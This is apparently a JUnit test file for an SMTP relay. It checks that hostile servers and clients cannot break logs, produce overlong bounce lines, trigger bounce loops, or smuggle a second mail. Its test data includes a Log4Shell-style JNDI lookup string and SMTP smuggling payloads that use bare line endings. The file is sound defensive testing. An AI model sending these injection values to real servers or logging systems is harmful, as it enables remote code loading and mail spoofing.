package org.postern.relay.deliver;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.postern.core.settings.MailSettings;
import org.postern.relay.ListenerKeys;
import org.postern.relay.ListenerSettings;
import org.postern.relay.RawClient;
import org.postern.relay.SmtpListener;
import org.postern.spool.Queue;
import org.postern.testkit.FakeSmtpServer;
import org.postern.testkit.LogLines;
import org.postern.testkit.SmtpStep;

/** Clients and servers with bad intent, and the whole relay between them. */
class HostileMailTest {

  @RegisterExtension static final SharedSpool SPOOL = new SharedSpool();

  private final FakeSmtpServer server = FakeSmtpServer.builder().start();
  private final LogLines log = LogLines.of("org.postern");
  private final MailSettings settings =
      Post.settings(server, SPOOL.folder())
          .set(ListenerKeys.LISTEN, "127.0.0.1:0")
          .set(ListenerKeys.HOSTNAME, "relay.example.com")
          .build();
  private final Post post = Post.open(SPOOL, settings);
  private SmtpListener listener;
  private RawClient client;

  @BeforeEach
  void start() throws IOException {
    listener = SmtpListener.start(ListenerSettings.of(settings, SPOOL.folder()), post.delivery());
    client = RawClient.to(listener.addresses().get(0).getPort());
    client.reply();
    client.say("EHLO client.example.com");
  }

  @AfterEach
  void stop() throws Exception {
    client.close();
    listener.stop(Duration.ofSeconds(5));
    post.close();
    server.close();
    log.close();
  }

  private String mail(String sender, String message) throws IOException {
    client.say("MAIL FROM:<" + sender + ">");
    client.say("RCPT TO:<b@example.org>");
    client.say("DATA");
    return client.say(message + "\r\n.");
  }

  @Test
  void nothingThatTheServerSaysBreaksALineOfTheLogOrOfTheNotification() throws Exception {
    server
        .at(SmtpStep.RCPT)
        .once()
        .reply(
            "550-5.1.1 \u001b[31mno\u001b[0m \u0085 ${jndi:ldap://x.test/a}", "550 5.1.1 \u0007 b");
    assertThat(mail("a@example.com", "Subject: x\r\n\r\nx")).startsWith("250");
    post.awaitEmpty();

    String notice = server.onlyMail().text();
    assertThat(notice).contains("\r\nDiagnostic-Code: smtp; 550 ").contains("\\x1b[31m");
    assertThat(notice).doesNotContain("\u001b", "\u0007");
    assertThat(log.all()).anyMatch(line -> line.contains("\\x1b[31m"));
    assertThat(log.all()).allMatch(line -> line.codePoints().allMatch(c -> c >= 0x20 && c < 0x7f));
  }

  @Test
  void aReplyWithoutEndMakesNoLineOfTheNotificationTooLong() throws Exception {
    server
        .at(SmtpStep.RCPT)
        .once()
        .reply("550-5.1.1 " + "y".repeat(1500), "550 5.1.1 " + "ü".repeat(1500));
    assertThat(mail("a@example.com", "Subject: x\r\n\r\nx")).startsWith("250");
    post.awaitEmpty();

    assertThat(server.onlyMail().text().lines())
        .allMatch(line -> line.getBytes(StandardCharsets.UTF_8).length <= 998)
        .anyMatch(line -> line.startsWith("Diagnostic-Code: smtp; 550"))
        .contains("Content-Transfer-Encoding: 8bit");
  }

  @ParameterizedTest
  @CsvSource({
    "<1.x@example.com>, true",
    "<1@[192.0.2.1]>, true",
    "<ä@example.com>, false",
    "<1@x> <2@x>, false",
    "<1@x> (c), false",
    "none, false"
  })
  void aNotificationRefersToAMessageIdAndToNothingElse(String id, boolean one) throws Exception {
    server.at(SmtpStep.RCPT).once().reply("550 5.1.1 unknown");
    assertThat(mail("a@example.com", "Message-ID: " + id + "\r\n\r\nx")).startsWith("250");
    post.awaitEmpty();

    String header = server.onlyMail().text().split("\r\n\r\n", 2)[0];
    assertThat(header.contains("\r\nReferences: " + id + "\r\n")).isEqualTo(one);
    assertThat(header.contains("References")).isEqualTo(one);
  }

  /** RFC 5321 section 6.1: whoever sent to nobody gets mail about it from nobody. */
  @Test
  void aNotificationIsNeverAnsweredByAnother() throws Exception {
    server.at(SmtpStep.RCPT).reply("550 5.1.1 unknown");
    assertThat(mail("", "Subject: a notification\r\n\r\nx")).startsWith("250");
    Post.await().until(() -> post.spool().queue().counts().dead() == 1);

    assertThat(server.mails()).isEmpty();
    assertThat(post.spool().queue().counts().mails()).isEqualTo(1);
    assertThat(post.spool().queue().list(Queue.Filter.ALL, Optional.empty(), 9))
        .allMatch(entry -> entry.sender().isEmpty());
  }

  @Test
  void aMailThatGoesInCirclesIsRefusedAndNobodyIsToldByMail() throws Exception {
    String circles =
        "Received: from a.test by b.test; Mon, 1 Jan 2024 00:00:00 +0000\r\n".repeat(101);
    assertThat(mail("a@example.com", circles + "Subject: x\r\n\r\nx")).startsWith("554 5.4.6");

    assertThat(post.spool().queue().counts().mails()).isZero();
    assertThat(server.sessions()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"\n.\n", "\r.\r", "\n.\r\n", "\r\n.\n", "\r\n.\r"})
  void noMailHidesInAnother(String end) throws Exception {
    String hidden = "MAIL FROM:<evil@example.com>\r\nRCPT TO:<c@example.org>\r\nDATA\r\nevil";
    assertThat(mail("a@example.com", "Subject: x\r\n\r\nx" + end + hidden)).startsWith("550 5.5.2");

    assertThat(post.spool().queue().counts().mails()).isZero();
    assertThat(server.mails()).isEmpty();
  }

  @Test
  void dotsArriveAsTheyWere() throws Exception {
    assertThat(mail("a@example.com", "Subject: x\r\n\r\n..\r\n..two\r\n...")).startsWith("250");
    post.awaitEmpty();

    assertThat(server.onlyMail().text()).endsWith("\r\n\r\n.\r\n.two\r\n..\r\n");
    server.requireNoViolations();
  }
}
